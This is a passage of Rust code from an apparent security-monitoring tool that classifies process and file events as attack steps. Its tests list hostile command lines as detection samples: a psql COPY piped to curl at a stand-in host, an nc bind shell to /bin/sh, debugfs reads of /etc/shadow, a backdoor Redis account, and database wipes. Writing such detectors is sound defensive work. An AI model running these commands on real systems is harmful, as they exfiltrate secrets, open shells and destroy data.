        if grants_by_subcommand(&args) {
            return Some((Step::AccountChange, cmd));
        }
        if SEARCHERS.contains(&name.as_str()) || (name == "git" && args.first() == Some(&"grep")) {
            let lower = cmd.to_ascii_lowercase();
            // Also a search for setuid or setgid programs (`find / -perm -4000`).
            let setid_search = name == "find"
                && args.iter().zip(args.iter().skip(1)).any(|(a, b)| {
                    *a == "-perm"
                        && (b.contains("4000")
                            || b.contains("2000")
                            || b.contains("6000")
                            || b.contains("s"))
                });
            if setid_search
                || KEY_WORDS.iter().any(|k| lower.contains(k))
                || searches_for_credential_files(&name, &args)
            {
                return Some((Step::KeySearch, cmd));
            }
        }
        if orchestrator_cli_asks_for_secrets(&name, &args) || cli_reads_secret_store(&args) {
            return Some((Step::SecretsRequest, cmd));
        }
        if DOWNLOADERS.contains(&name.as_str()) || name == "ssh" || name == "openssl" {
            if let Some(u) = urls(&cmd).find(|u| asks_for_secrets(u)) {
                return Some((Step::SecretsRequest, u.to_string()));
            }
            let insecure = args.iter().any(|a| {
                matches!(*a, "-k" | "--insecure" | "--no-check-certificate")
                    || (a.starts_with('-')
                        && !a.starts_with("--")
                        && a.len() > 2
                        && a[1..].contains('k')
                        && name == "curl")
            });
            if insecure && url_hosts(&cmd).iter().any(|h| !is_loopback_host(h)) {
                return Some((Step::InsecureFetch, cmd));
            }
        }
        let exe = text(ev, "proc.exepath").unwrap_or_default();
        // The entry itself (a login daemon, a runtime) is judged by the person test.
        let entry = matches!(role(&name), Role::Login | Role::Runtime);
        if !exe.is_empty() && !entry && !crate::catalogue::shipped_executable(ev) {
            return Some((Step::ForeignProgram, exe));
        }
        // debugfs reads a file from its filesystem's raw device, past its permissions
        // (`debugfs -R "cat /etc/shadow" /dev/sda2`): decisive since session 24 (the blind
        // holdout34: a DaemonSet's start doing so kept its module load's recurrence anchor).
        if name == "debugfs" {
            if let Some(p) = args
                .iter()
                .map(|a| a.trim_matches(|c| c == '"' || c == '\''))
                .find(|a| a.starts_with('/') && is_credential_material(a))
            {
                return Some((Step::RawDiskRead, p.to_string()));
            }
        }
        // A reader given credential material inside another program's command (a sandbox's
        // or a shell's `-c` program, after a `;`, `&&` or `|`): read all the same.
        if let Some(p) = command_reads_credentials(&cmd) {
            return Some((Step::CredentialMaterial, p));
        }
        if serves_shell(&name, &args) {
            return Some((Step::ShellServed, cmd));
        }
        if evades_defenses(&name, &args) {
            return Some((Step::DefenseEvasion, cmd));
        }
        if KERNEL_TOOLS.contains(&name.as_str()) {
            return Some((Step::KernelInterface, cmd));
        }
        if matches!(name.as_str(), "strace" | "ltrace" | "gdb" | "perf") {
            let lower = cmd.to_ascii_lowercase();
            // The data read or written, named as the calls to show (`-e read`), or shown at
            // length (`-s 1024`: strace and ltrace cut strings at 32 characters unless told).
            let calls = args.iter().zip(args.iter().skip(1)).any(|(a, b)| {
                *a == "-e"
                    && ["read", "write", "recv", "send"]
                        .iter()
                        .any(|c| b.starts_with(c))
            });
            let long_strings = args.iter().zip(args.iter().skip(1)).any(|(a, b)| {
                (*a == "-s" || *a == "--string-limit") && b.parse::<u32>().is_ok_and(|n| n >= 64)
            }) || args.iter().any(|a| {
                a.strip_prefix("--string-limit=")
                    .or_else(|| a.strip_prefix("-s").filter(|n| !n.is_empty()))
                    .and_then(|n| n.parse::<u32>().ok())
                    .is_some_and(|n| n >= 64)
            });
            if [
                "trace=read",
                "trace=write",
                "trace=%net",
                "read=",
                "write=",
                "=recv",
                "=send",
            ]
            .iter()
            .any(|k| lower.contains(k))
                || calls
                || long_strings
                || (name == "gdb" && args.iter().any(|a| *a == "-p" || a.starts_with("--pid")))
            {
                return Some((Step::Sniffing, cmd));
            }
        }
        if NET_TOOLS.contains(&name.as_str()) || SCANNERS.contains(&name.as_str()) {
            if sweeps_network(&args) {
                return Some((Step::Sweep, cmd));
            }
            return Some((Step::NetworkTool, cmd));
        }
        if installs_network_tool(&name, &args).is_some() {
            return Some((Step::NetworkTool, cmd));
        }
        if let Some(p) = args
            .iter()
            .map(|a| a.trim_matches(|c| c == '"' || c == '\''))
            .find(|a| host_path(a))
        {
            return Some((Step::HostAccess, p.to_string()));
        }
        if let Some(p) = sends_key_material(&name, &args) {
            return Some((Step::KeySent, p));
        }
        // A general-purpose reader or copier naming credential material on its command
        // line reads or ships it (`cat token`, `base64 id_rsa`, `tar czf - ~/.aws`); a
        // program that destroys it (`shred`, `rm`) does not.
        if let Some(p) = args
            .iter()
            .map(|a| a.trim_matches(|c| c == '"' || c == '\''))
            .find(|a| a.starts_with('/') && (is_credential_material(a) || process_environment(a)))
            .filter(|_| READERS.contains(&name.as_str()) || DOWNLOADERS.contains(&name.as_str()))
        {
            return Some((Step::CredentialMaterial, p.to_string()));
        }
        // The environment printed in a container: a shell the runtime started there
        // carries the workload's own environment (its secrets), as `/proc/1/environ` does.
        let in_container = text(ev, "container.id").is_some_and(|c| !c.is_empty() && c != "host");
        if in_container
            && (name == "printenv" || (name == "env" && args.iter().all(|a| a.starts_with('-'))))
        {
            return Some((Step::CredentialMaterial, cmd));
        }
        if role(&name) == Role::Shell {
            if let Some(user) = serving_account_shell(ev, &args) {
                return Some((Step::ServingAccountShell, format!("{cmd} as {user}")));
            }
        }
        if role(&name) == Role::Shell && shell_escape(ev, &args) {
            return Some((
                Step::ShellEscape,
                format!("{} < {}", cmd, text(ev, "proc.pname").unwrap_or_default()),
            ));
        }
        if role(&name) == Role::Shell || role(&name) == Role::Interpreter {
            if let Some(script) = crate::cluster::script_of(&cmd) {
                let script = script.split_whitespace().next().unwrap_or("").to_string();
                if staged_path(&script) {
                    return Some((Step::ScriptRun, script));
                }
            }
        }
        // A script file in a temporary directory handed to an interpreter's own script
        // (`php wp eval-file /tmp/u.php`): by the executable too, since a script started by
        // its `#!` line is named after itself (`wp`), not after its interpreter.
        let exe_base = exe.rsplit('/').next().unwrap_or("");
        let interpreted = matches!(role(&name), Role::Shell | Role::Interpreter)
            || SHELLS.contains(&exe_base)
            || INTERPRETERS.iter().any(|i| exe_base.starts_with(i));
        if interpreted {
            if let Some(p) = args
                .iter()
                .skip(1)
                .map(|a| a.trim_matches(|c| c == '"' || c == '\''))
                .find(|a| a.starts_with('/') && in_drop_dir(a) && script_file(a))
            {
                return Some((Step::ScriptArgument, p.to_string()));
            }
        }
        return None;
    }
    if KERNEL_CALLS.contains(&ty.as_str()) {
        let what = [
            "evt.arg.flags",
            "evt.arg.nstype",
            "evt.arg.dir",
            "evt.arg.cmd",
            "fd.name",
        ]
        .iter()
        .find_map(|k| text(ev, k))
        .unwrap_or_default();
        return Some((Step::KernelInterface, format!("{ty} {what}")));
    }
    if ty == "socket" {
        let domain = text(ev, "evt.arg.domain").unwrap_or_default();
        let st = text(ev, "evt.arg.type").unwrap_or_default();
        return raw_socket(&domain, &st)
            .then(|| (Step::KernelInterface, format!("socket {domain} {st}")));
    }
    if ty == "connect" {
        if let Some(addr) = shell_connection(ev) {
            return Some((Step::ShellConnect, addr));
        }
        let port = server_port(ev);
        let name = text(ev, "fd.sip.name")
            .unwrap_or_default()
            .to_ascii_lowercase();
        if server_ip(ev).is_some_and(|ip| is_instance_metadata_ip(&ip))
            || is_instance_metadata_host(&name)
        {
            return Some((
                Step::InstanceMetadata,
                text(ev, "fd.name").unwrap_or_else(|| name.clone()),
            ));
        }
        let api = matches!(port, Some(6443 | 10250 | 10255 | 2379 | 2380))
            || name.starts_with("kubernetes.default");
        return api.then(|| {
            (
                Step::OrchestratorApi,
                text(ev, "fd.name").unwrap_or_else(|| name.clone()),
            )
        });
    }
    if ty == "ptrace" {
        let req = text(ev, "evt.arg.request")
            .unwrap_or_default()
            .to_ascii_uppercase();
        if req.contains("TRACEME") {
            let parent = text(ev, "proc.pname").unwrap_or_default();
            let debugged = DEBUGGERS.contains(&parent.as_str()) || parent.starts_with("lldb");
            return (!debugged).then_some((Step::AntiDebug, req));
        }
        let writes = ["POKE", "SETREGS", "SETFPREGS", "SETSIGINFO", "SETREGSET"]
            .iter()
            .any(|k| req.contains(k));
        let name = text(ev, "proc.name").unwrap_or_default();
        let by_design = DEBUGGERS.contains(&name.as_str())
            || name.starts_with("lldb")
            || matches!(name.as_str(), "criu" | "reptyr");
        return writes.then(|| {
            let target = text(ev, "evt.arg.pid").unwrap_or_default();
            if by_design {
                (Step::Sniffing, req)
            } else {
                (
                    Step::ProcessInjection,
                    format!("{req} {target}").trim_end().to_string(),
                )
            }
        });
    }
    if ty == "listen" {
        return Some((Step::NetworkTool, text(ev, "fd.name").unwrap_or_default()));
    }
    if let Some(p) = ["fd.name", "evt.arg.name", "fs.path.name", "evt.arg.path"]
        .iter()
        .filter(|_| ty.starts_with("open") || ty == "creat")
        .find_map(|k| text(ev, k))
        .filter(|p| host_path(p))
    {
        return Some((Step::HostAccess, p));
    }
    match ty.as_str() {
        "chmod" | "fchmod" | "fchmodat" => {
            let mode = text(ev, "evt.arg.mode").unwrap_or_default();
            mode_sets_id(&mode).then(|| {
                let p = path_of(&[
                    "fs.path.name",
                    "evt.arg.filename",
                    "evt.arg.path",
                    "fd.name",
                ])
                .unwrap_or_default();
                (Step::SetId, p)
            })
        }
        "open" | "openat" | "openat2" | "creat" => {
            let path = text(ev, "fd.name").or_else(|| text(ev, "evt.arg.name"))?;
            let flag = |k: &str| matches!(ev.get(k), Some(quell_rules::Value::Bool(true)));
            let flags = text(ev, "evt.arg.flags").unwrap_or_default();
            let write = flag("evt.is_open_write")
                || flags.contains("O_WRONLY")
                || flags.contains("O_RDWR")
                || ty == "creat";
            let read = flag("evt.is_open_read") || (!write && flags.contains("O_RDONLY"));
            if write && privileged_file(&path) {
                Some((Step::PrivilegedWrite, path))
            } else if write && (web_script_drop(ev, &path) || traversal_script_drop(ev, &path)) {
                Some((Step::WebScript, path))
            } else if write && hidden_staging(&path) {
                Some((Step::HiddenStaging, path))
            } else if write
                && security_record(&path)
                && (flags.contains("O_TRUNC") || !flags.contains("O_APPEND"))
                // A login program writes the login records by design.
                && role(&text(ev, "proc.name").unwrap_or_default()) != Role::Login
            {
                Some((Step::LogCleared, path))
            } else if read && is_credential_material(&path) {
                let reader = text(ev, "proc.name").unwrap_or_default();
                (!reads_by_design(&reader, &path)).then_some((Step::CredentialMaterial, path))
            } else if read && process_environment(&path) {
                // Another process's environment holds the secrets it was given: nobody
                // reads it by design in a person's session.
                Some((Step::CredentialMaterial, path))
            } else {
                None
            }
        }
        "unlink" | "unlinkat" | "truncate" | "ftruncate" => {
            let path = path_of(&["fs.path.name", "evt.arg.path", "evt.arg.name", "fd.name"])?;
            security_record(&path).then_some((Step::LogCleared, path))
        }
        "rename" | "renameat" | "renameat2" | "link" | "linkat" | "symlink" | "symlinkat" => {
            let from = path_of(&["fs.path.source", "evt.arg.oldpath", "evt.arg.target"])
                .unwrap_or_default();
            let to = path_of(&["fs.path.target", "evt.arg.newpath", "evt.arg.linkpath"])
                .unwrap_or_default();
            let renamed = ty.starts_with("rename");
            if privileged_file(&to) {
                Some((Step::PrivilegedWrite, to))
            } else if security_record(&to) || (renamed && security_record(&from)) {
                // A security record replaced (`ln -sf /dev/null ~/.bash_history`) or moved away.
                Some((Step::LogCleared, if renamed { from } else { to }))
            } else if !renamed
                && (is_credential_material(&from)
                    || privileged_file(&from)
                    || security_record(&from))
            {
                // A second name for a sensitive file reads or writes it past its own rules.
                Some((Step::PrivilegedWrite, format!("{to} -> {from}")))
            } else {
                None
            }
        }
        _ => None,
    }
}

/// Whether an event may show a [`Step`] by its type and paths alone: a necessary
/// condition of [`attack_step`] for events that are not executions (see
/// [`crate::triage::cannot_be_activity`]).
pub fn may_be_step(ty: &str, paths: impl IntoIterator<Item = String>) -> bool {
    if KERNEL_CALLS.contains(&ty) || matches!(ty, "listen" | "socket" | "ptrace") {
        // A `socket` call is a step only when raw or packet ([`raw_socket`]), which the
        // caller may check first; its arguments are not paths.
        return true;
    }
    match ty {
        "chmod" | "fchmod" | "fchmodat" => true,
        "open" | "openat" | "openat2" | "creat" | "unlink" | "unlinkat" | "truncate"
        | "ftruncate" | "rename" | "renameat" | "renameat2" | "link" | "linkat" | "symlink"
        | "symlinkat" => paths.into_iter().any(|p| {
            is_credential_material(&p)
                || process_environment(&p)
                || privileged_file(&p)
                || security_record(&p)
                || host_path(&p)
                || hidden_staging(&p)
                || web_script_name(&p)
                || climbs_into_script(&p)
        }),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ev(json: &str) -> FlatEvent {
        FlatEvent::from_json_line(json).unwrap()
    }

    /// Session 24: what a read-only catalogue entry (a monitoring agent) never explains.
    #[test]
    fn commands_that_change_state() {
        for cmd in [
            "snmpset -v2c -c rw 10.0.0.2 1.3.6.1.4.1.318.1.1.12.3.3.1.1.4.3 i 2",
            "sh -c snmpget -v2c -c ro 10.0.0.2 1.3.6.1.2.1.1.3.0; snmpset -v2c -c rw 10.0.0.2 1.3 i 2",
            "ipmitool chassis power off",
            "redis-cli config set dir /var/spool/cron",
            "systemctl stop kiln-logger",
            "setfacl -m u:nobody:rwx /etc",
            "kubectl delete pod api-0",
        ] {
            assert!(changes_state(cmd), "{cmd}");
        }
        for cmd in [
            "snmpget -v2c -c ro -Oqv 10.0.0.2 1.3.6.1.2.1.1.3.0",
            "sh -c snmpwalk -v2c -c ro 10.0.0.2 ifTable | wc -l",
            "ipmitool sensor list",
            "redis-cli info memory",
            "systemctl is-active nginx",
            "/usr/sbin/zabbix_agent2 -c /etc/zabbix/zabbix_agent2.conf",
        ] {
            assert!(!changes_state(cmd), "{cmd}");
        }
    }

    /// An account, role or privilege granted through a program's own subcommand is an
    /// account change, whatever the program (issue 11, session 9); listing, reading and
    /// options naming users are not.
    /// Session 14 (judge14): whole-store verbs by their words, whatever the client; the
    /// same clients asked for one table or one name are not steps.
    #[test]
    fn whole_store_commands_are_steps_whatever_the_client() {
        for cmd in [
            "mysql -u root -e \"DROP DATABASE shop\"",
            "psql -c 'drop schema if exists app cascade'",
            "cqlsh -e \"DROP KEYSPACE metrics;\"",
            "redis-cli -h 10.0.0.9 FLUSHALL",
            "valkey-cli flushdb",
            "mongosh --quiet --eval db.dropDatabase()",
            "find /srv/claims/outbound -name *.dat -mtime -30 -exec shred -u {} +",
            "find /data/exports -mmin -120 -delete",
            "find /var/lib/app -newermt 2026-11-01 -exec /bin/rm -f {} ;",
        ] {
            assert!(cmdline_destroys_store(cmd), "{cmd}");
            assert!(!cmdline_takes_store(cmd), "{cmd}");
        }
        for cmd in [
            "mysqldump --all-databases --single-transaction",
            "mariadb-dump --all-databases",
            "dig @10.0.0.2 corp.example AXFR",
            "host -t axfr corp.example 10.0.0.2",
            "dig corp.example ixfr=2024010101",
            "gpg --armor --export-secret-keys",
            "gpg --export-secret-subkeys ABCD",
            "psql -U postgres -d orders -c COPY customers TO STDOUT WITH CSV",
            "psql -c \"\\copy (SELECT * FROM cards) to '/tmp/c.csv' csv\"",
            "psql -c \"COPY accounts TO PROGRAM 'curl -T - http://x'\"",
            "mysql -e \"SELECT * FROM users INTO OUTFILE '/tmp/u.txt'\"",
        ] {
            assert!(cmdline_takes_store(cmd), "{cmd}");
            assert!(!cmdline_destroys_store(cmd), "{cmd}");
        }
        for cmd in [
            "mysql -e \"DROP TABLE IF EXISTS staging_orders\"",
            "mysqldump shop orders",
            "dig @10.0.0.2 api.corp.example +short",
            "redis-cli INFO",
            "dropdb_helper --list",
            "gpg --export ABCD",
            "psql -c \"SELECT * FROM drop_database_audit\"",
            "find /srv/claims/archive -name *.835 -mtime +2555 -exec shred -u {} +",
            "find /var/log/app -mtime +14 -delete",
            "find /data/exports -mmin -120 -print",
            "find /tmp -mtime -1 -exec ls -l {} ;",
            "psql -c \"COPY staging FROM STDIN WITH CSV\"",
            "psql -c \"\\copy staging from '/srv/load/orders.csv' csv\"",
            "cp -a /srv/app /srv/app.bak",
        ] {
            assert!(!cmdline_destroys_store(cmd), "{cmd}");
            assert!(!cmdline_takes_store(cmd), "{cmd}");
        }
        let exec = |cmd: &str| {
            let exe = cmd.split_whitespace().next().unwrap_or_default();
            ev(&serde_json::json!({"evt.type":"execve","evt.rawres":0,"proc.name":exe,"proc.exepath":format!("/usr/bin/{exe}"),"proc.cmdline":cmd}).to_string())
        };
        assert_eq!(
            attack_step(&exec("redis-cli FLUSHALL")).map(|s| s.0),
            Some(Step::StoreDestroyed)
        );
        assert_eq!(
            attack_step(&exec("dig corp.example AXFR")).map(|s| s.0),
            Some(Step::StoreTaken)
        );
        assert_eq!(attack_step(&exec("dig corp.example +short")), None);
    }

    /// Session 14 (lead, after holdout14's blind measure): a secret store read by any
    /// client, an account given the run of a whole data store, and a bearer token's file,
    /// by their words and names whatever the product; their routine twins are not.
    #[test]
    fn secret_stores_store_admins_and_token_files_by_kind() {
        let words = |c: &str| {
            c.split_whitespace()
                .skip(1)
                .map(str::to_string)
                .collect::<Vec<_>>()
        };
        for cmd in [
            "vault kv get -format=json secret/payments/stripe",
            "vault kv list secret/billing",
            "vault read secret/data/app",
            "aws secretsmanager get-secret-value --secret-id prod/db",
            "gcloud secrets versions access latest --secret=api-key",
            "az keyvault secret show --vault-name kv1 --name db",
            "kubectl get secrets -A",
        ] {
            let w = words(cmd);
            let args: Vec<&str> = w.iter().map(String::as_str).collect();
            assert!(cli_reads_secret_store(&args), "{cmd}");
            assert!(cmdline_asks_for_secrets(cmd), "{cmd}");
        }
        for cmd in [
            "vault status",
            "vault kv put secret/app key=value",
            "kubectl create secret generic x --from-literal=a=b",
            "aws s3 ls s3://backups",
            "cat /etc/secrets/db-password",
            "git log --oneline",
            "gcloud secrets create api-key",
        ] {
            let w = words(cmd);
            let args: Vec<&str> = w.iter().map(String::as_str).collect();
            assert!(!cli_reads_secret_store(&args), "{cmd}");
        }
        for cmd in [
            "mongosh --quiet mongodb://localhost:27017/admin -u dba -p --eval db.createUser({user:'svc',pwd:'x',roles:['root']})",
            "mongosh --eval db.grantRolesToUser('svc',[{role:'userAdminAnyDatabase',db:'admin'}])",
            "psql -c \"CREATE ROLE sync LOGIN SUPERUSER PASSWORD 'x'\"",
            "psql -c 'ALTER USER app WITH SUPERUSER'",
            "mysql -e \"GRANT ALL PRIVILEGES ON *.* TO 'x'@'%' WITH GRANT OPTION\"",
            "redis-cli ACL SETUSER backdoor on >pw ~* +@all",
        ] {
            assert!(cmdline_grants_store_admin(cmd), "{cmd}");
        }
        for cmd in [
            "mysql -u root -p -e \"CREATE USER 'app'@'%' IDENTIFIED BY 'x'\"",
            "mysql -u root -e \"GRANT SELECT ON shop.* TO 'report'@'%'\"",
            "mongosh --eval db.createUser({user:'reader',pwd:'x',roles:['read']})",
            "psql -c 'CREATE USER app'",
            "redis-cli ACL SETUSER reader on >pw ~cache:* +get",
            "sudo -u root systemctl restart postgresql",
        ] {
            assert!(!cmdline_grants_store_admin(cmd), "{cmd}");
        }
        for p in [
            "/home/vault/.vault-token",
            "/var/lib/kubelet/pods/1/volumes/kubernetes.io~projected/kube-api-access-x/token",
            "/etc/kubernetes/known_tokens.csv",
            "/home/dev/.config/app/token.json",
        ] {
            assert!(is_credential_material(p), "{p}");
        }
        for p in [
            "/usr/lib/python3.11/tokenize.py",
            "/srv/app/tokens.md",
            "/var/log/token-service.log",
        ] {
            assert!(!is_credential_material(p), "{p}");
        }
        let exec = |cmd: &str| {
            let exe = cmd.split_whitespace().next().unwrap_or_default();
            ev(&serde_json::json!({"evt.type":"execve","evt.rawres":0,"proc.name":exe,"proc.exepath":format!("/usr/bin/{exe}"),"proc.cmdline":cmd}).to_string())
        };
        assert_eq!(
            attack_step(&exec("vault kv get secret/payments/stripe")).map(|s| s.0),
            Some(Step::SecretsRequest)
        );
        assert_eq!(
            attack_step(&exec("redis-cli ACL SETUSER x on >p ~* +@all")).map(|s| s.0),
            Some(Step::AccountChange)
        );
        assert_eq!(attack_step(&exec("vault status")), None);
    }

    #[test]
    fn grants_through_a_subcommand_are_account_changes() {
        let yes: &[&[&str]] = &[
            &["add_user", "svc", "pw"],
            &["set_user_tags", "svc", "administrator"],
            &[
                "create",
                "clusterrolebinding",
                "x",
                "--clusterrole=cluster-admin",
            ],
            &["-n", "ns", "create", "rolebinding", "x"],
            &["user:create", "--email=a@b"],
            &["-c", "\"CREATE", "USER", "x;\""],
            &["createuser", "-s", "x"],
            &["admin", "reset-password", "x"],
        ];
        for a in yes {
            assert!(grants_by_subcommand(a), "{a:?}");
        }
        let no: &[&[&str]] = &[
            &["list_users"],
            &["list_queues", "name", "messages"],
            &["get", "pods", "-A"],
            &["config", "--global", "user.name", "x"],
            &["set", "image", "deploy/web", "web=img:2"],
            &["--user", "add", "pkg"],
            &["purge_queue", "orders.dlq"],
            &["describe", "rolebinding", "x"],
        ];
        for a in no {
            assert!(!grants_by_subcommand(a), "{a:?}");
        }
        let grant = ev(
            r#"{"evt.type":"execve","evt.rawres":0,"proc.name":"kubectl","proc.exepath":"/usr/bin/kubectl","proc.cmdline":"kubectl create clusterrolebinding sa-debug --clusterrole=cluster-admin --serviceaccount=tools:default"}"#,
        );
        assert_eq!(
            attack_step(&grant).map(|(s, _)| s),
            Some(Step::AccountChange)
        );
        let list = ev(
            r#"{"evt.type":"execve","evt.rawres":0,"proc.name":"kubectl","proc.exepath":"/usr/bin/kubectl","proc.cmdline":"kubectl get clusterrolebindings"}"#,
        );
        assert_eq!(attack_step(&list), None);
    }

    #[test]
    fn sensitivity_levels() {
        assert_eq!(sensitivity("/var/log/dpkg.log"), Sensitivity::Low);
        assert_eq!(sensitivity("/var/log/apt/history.log"), Sensitivity::Low);
        assert_eq!(sensitivity("/var/log/syslog.2.gz"), Sensitivity::Low);
        assert_eq!(sensitivity("/var/log/syslog"), Sensitivity::Medium);
        assert_eq!(sensitivity("/var/log/auth.log"), Sensitivity::High);
        assert_eq!(sensitivity("/var/log/audit/audit.log"), Sensitivity::High);
        assert_eq!(sensitivity("/root/.bash_history"), Sensitivity::High);
        assert_eq!(
            sensitivity("/home/ana/.local/share/fish/fish_history"),
            Sensitivity::High
        );
        assert_eq!(
            sensitivity("/srv/media/tilepics/oral_history_1987_0412.mp4"),
            Sensitivity::Medium
        );
        assert_eq!(sensitivity(""), Sensitivity::Medium);
        assert_eq!(sensitivity("/home/ops/.bashrc"), Sensitivity::Persistence);
        assert_eq!(sensitivity("/etc/cron.d/job"), Sensitivity::Persistence);
        assert_eq!(
            sensitivity("/etc/systemd/system/x.service"),
            Sensitivity::Persistence
        );
        assert_eq!(sensitivity("/srv/app/profile"), Sensitivity::Medium);
    }

    #[test]
    fn actor_facts() {
        let a = actor(&ev(
            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"}"#,
        ));
        assert!(a.tty);
        assert_eq!(a.entry.as_deref(), Some("sshd"));
        assert!(a.service_shell.is_none());
        let a = actor(&ev(
            r#"{"proc.name":"rm","proc.tty":0,"proc.aname[1]":"sh","proc.aname[2]":"httpd","proc.aexepath[1]":"/bin/sh"}"#,
        ));
        assert_eq!(a.service_shell, Some(("httpd".into(), "sh".into())));
        assert!(!a.tty);
        let a = actor(&ev(
            r#"{"proc.name":"rm","proc.aname[1]":"x","proc.aexepath[1]":"/tmp/x"}"#,
        ));
        assert_eq!(a.dropped_exe, Some((1, "/tmp/x".into())));
        // A web server running rm directly (no shell between) is not a spawned shell.
        let a = actor(&ev(r#"{"proc.name":"rm","proc.pname":"httpd"}"#));
        assert!(a.service_shell.is_none());
    }

    /// An interpreter running its own program file that connects to a server of the site on
    /// a service's port is an application at work; code given inline or on standard input,
    /// a staged script, an unusual port or a server outside the site is a connection out.
    /// The host's credential files reached below another root (a mounted disk, a host
    /// path, a process's root) are credential files; the same names elsewhere are not.
    #[test]
    fn credentials_of_a_filesystem_mounted_below_are_credentials() {
        for p in [
            "/etc/shadow",
            "/mnt/logger/etc/shadow",
            "/host/etc/sudoers",
            "/proc/1/root/etc/gshadow",
            "/mnt/h/etc/sudoers.d/90-x",
            "/mnt/h/etc/ssh/ssh_host_ed25519_key",
        ] {
            assert!(is_credential(p), "{p}");
        }
        for p in [
            "/mnt/h/etc/passwd",
            "/srv/etc/shadow.md",
            "/mnt/h/etc/ssh/ssh_host_ed25519_key.pub",
            "/usr/share/doc/etc/hosts",
        ] {
            assert!(!is_credential(p), "{p}");
        }
    }

    /// Session 20 (the blind holdout25): wiping the current year's records is a store
    /// destroyed; wiping an older year's, a key, or removing without a wiper is not.
    #[test]
    fn wiping_the_current_years_records_destroys_a_store() {
        // 2026-11-08T17:00:01Z.
        let t = 1_794_157_201_000_000_000;
        let w = |prog: &str, args: &str| {
            let a: Vec<&str> = args.split_whitespace().collect();
            wipes_current_records(prog, &a, t)
        };
        assert!(w("shred", "-u -n 3 /srv/batchrec/2026/FDG/B26-0412.pdf"));
        assert!(w("shred", "-u -z /srv/batchrec/2026b/PSMA/B26-1107.pdf"));
        assert!(w("srm", "-r /data/claims/202611/"));
        assert!(w(
            "find",
            "/srv/rec/20261101 -name *.pdf -exec shred -u {} +"
        ));
        assert!(!w("shred", "-u /srv/batchrec/2019/FDG/B19-0001.pdf"));
        assert!(!w("shred", "-u /root/old-signing.key"));
        assert!(!w("rm", "-f /srv/batchrec/2026/FDG/B26-0412.pdf"));
        assert!(!w("find", "/srv/rec/2026 -name *.tmp -delete"));
        assert!(!w("shred", "-u -n 2026 old.bin"));
        let ev = |cmd: &str| {
            attack_step(&ev(&serde_json::json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":t,"proc.name":cmd.split(' ').next().unwrap(),"proc.cmdline":cmd}).to_string()))
        };
        assert_eq!(
            ev("shred -u /srv/batchrec/2026/a.pdf").map(|s| s.0),
            Some(Step::StoreDestroyed)
        );
        assert_eq!(ev("shred -u /srv/batchrec/2025/a.pdf"), None);
    }

    /// Session 21 (holdout26): the packages that bring a tool to reach other hosts, by a
    /// package manager's install verb only; and every shell's system-wide start-up files are
    /// persistence locations, not only Debian's.
    #[test]
    fn installed_network_tools_and_every_shells_start_up_files_are_named() {
        for (prog, cmd, pkg) in [
            (
                "apk",
                "add --no-cache openssh-client",
                Some("openssh-client"),
            ),
            (
                "apk",
                "add -X http://198.51.100.5/alpine socat",
                Some("socat"),
            ),
            (
                "apt-get",
                "install -y netcat-openbsd=1.219-1",
                Some("netcat-openbsd"),
            ),
            ("dnf", "-y install nmap-ncat", Some("nmap-ncat")),
            ("zypper", "in -y tcpdump", Some("tcpdump")),
            ("pacman", "-Syu openbsd-netcat", Some("openbsd-netcat")),
            ("apk", "add --no-cache strace", None),
            ("apt-get", "remove -y openssh-client", None),
            ("pacman", "-Ss netcat", None),
            ("apt-get", "install -y libssh-4", None),
            ("cp", "install socat", None),
        ] {
            let args: Vec<&str> = cmd.split(' ').collect();
            assert_eq!(
                installs_network_tool(prog, &args).as_deref(),
                pkg,
                "{prog} {cmd}"
            );
        }
        for p in [
            "/etc/profile",
            "/etc/bashrc",
            "/etc/zshrc",
            "/etc/zsh/zprofile",
            "/etc/csh.cshrc",
            "/home/ops/.zlogin",
            "/root/.config/fish/config.fish",
            "/etc/fish/conf.d/proxy.fish",
        ] {
            assert_eq!(sensitivity(p), Sensitivity::Persistence, "{p}");
        }
        for p in ["/srv/app/bashrc.example", "/opt/x/profile/run.sh"] {
            assert_ne!(sensitivity(p), Sensitivity::Persistence, "{p}");
        }
        // A sweep of addresses or ports, against a check of one service.
        for (cmd, sweep) in [
            ("nc -zv -w 1 10.70.12.1-254 1-1024", true),
            ("nc -zv 10.70.12.41 1-1024", true),
            ("nmap -sT 10.0.0.0/24", true),
            ("nmap -p1-65535 10.0.0.4", true),
            ("nc -zv -w 3 10.70.12.41 8180", false),
            ("nc -zv 10.70.12.41 8080-8090", false),
            ("nmap -sT 10.0.0.4/32", false),
            ("nc -lvkp 8180 -e /bin/sh", false),
        ] {
            let args: Vec<&str> = cmd.split(' ').skip(1).collect();
            assert_eq!(sweeps_network(&args), sweep, "{cmd}");
        }
        let exec = |cmd: &str| {
            let name = cmd.split(' ').next().unwrap();
            attack_step(&ev(&serde_json::json!({"evt.type":"execve","evt.rawres":0,"proc.name":name,"proc.exepath":format!("/usr/bin/{name}"),"proc.cmdline":cmd}).to_string())).map(|s| s.0)
        };
        assert_eq!(exec("nc -zv -w 1 10.70.12.1-254 1-1024"), Some(Step::Sweep));
        assert_eq!(
            exec("nc -zv -w 3 10.70.12.41 8180"),
            Some(Step::NetworkTool)
        );
        assert_eq!(exec("apk add socat"), Some(Step::NetworkTool));
        assert_eq!(exec("apk add strace"), None);
        // An interactive shell as a serving account through sudo; one program as that
        // account, or a database account's shell, is not.
        let as_user = |cmd: &str, user: &str, parent: &str| {
            let name = cmd.split(' ').next().unwrap();
            attack_step(&ev(&serde_json::json!({"evt.type":"execve","evt.rawres":0,"proc.name":name,"proc.exepath":format!("/usr/bin/{name}"),"proc.cmdline":cmd,"user.name":user,"proc.pname":parent}).to_string())).map(|s| s.0)
        };
        assert_eq!(
            as_user("bash", "www-data", "sudo"),
            Some(Step::ServingAccountShell)
        );
        assert_eq!(
            as_user("sh -i", "nginx", "su"),
            Some(Step::ServingAccountShell)
        );
        assert_eq!(as_user("bash", "postgres", "sudo"), None);
        // (a service starting a shell is a shell escape, not this)
        assert_eq!(
            as_user("bash", "www-data", "php-fpm"),
            Some(Step::ShellEscape)
        );
        assert_eq!(as_user("sh -c id", "www-data", "sudo"), None);
        assert_eq!(
            as_user("check_tcp -H 10.0.0.2 -p 7100", "nobody", "sudo"),
            None
        );
        // A datagram to an outside address is a connection; to a multicast group or a
        // broadcast address it announces to the segment; over TCP a send is no connection.
        let send = |dst: &str, proto: &str| {
